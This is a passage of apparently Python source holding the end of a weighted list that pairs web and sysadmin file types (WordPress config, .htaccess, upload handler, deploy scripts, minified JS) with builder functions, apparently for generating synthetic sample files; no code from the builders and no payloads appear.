    ("template_engine", b_template_engine, 8), ("plugin_updater", b_plugin_updater, 6), ("upload_handler", b_upload_handler, 8),
    ("exec_fixed", b_exec_fixed, 8), ("newsletter", b_newsletter, 6), ("contact_form", b_contact_form, 6),
    ("backup_tool", b_backup_tool, 4), ("cli_maintenance", b_cli_maint, 4), ("hook_dispatch", b_hooks, 4),
    ("router", b_router, 4), ("language_pack", b_lang_pack, 8), ("base64_assets", b_base64_assets, 4),
    ("file_cache", b_cache, 4), ("smtp_library", b_smtp_lib, 4), ("login_page", b_login_page, 6),
    ("bot_blocker", b_bot_blocker, 5), ("redirect", b_redirect, 3), ("wp_config", b_wp_config, 4),
    ("server_config", b_htaccess, 6), ("sysinfo", b_sysinfo, 3), ("unit_tests", b_tests, 3),
    ("legacy_create_function", b_legacy_sort, 3), ("plain_image", b_image, 6),
    ("deploy_script", b_deploy_sh, 4), ("backup_script", b_backup_sh, 4), ("install_script", b_install_sh, 3),
    ("cleanup_script", b_cleanup_sh, 3), ("monitoring_agent", b_monitor_py, 6), ("nagios_plugin", b_nagios_pl, 3),
    ("irc_notifier", b_irc_notify, 3), ("newsletter_script", b_newsletter_py, 3), ("sysadmin_perl", b_sysadmin_pl, 3),
    ("minified_js", b_minified_js, 6), ("markdown_doc", b_markdown, 4),
]
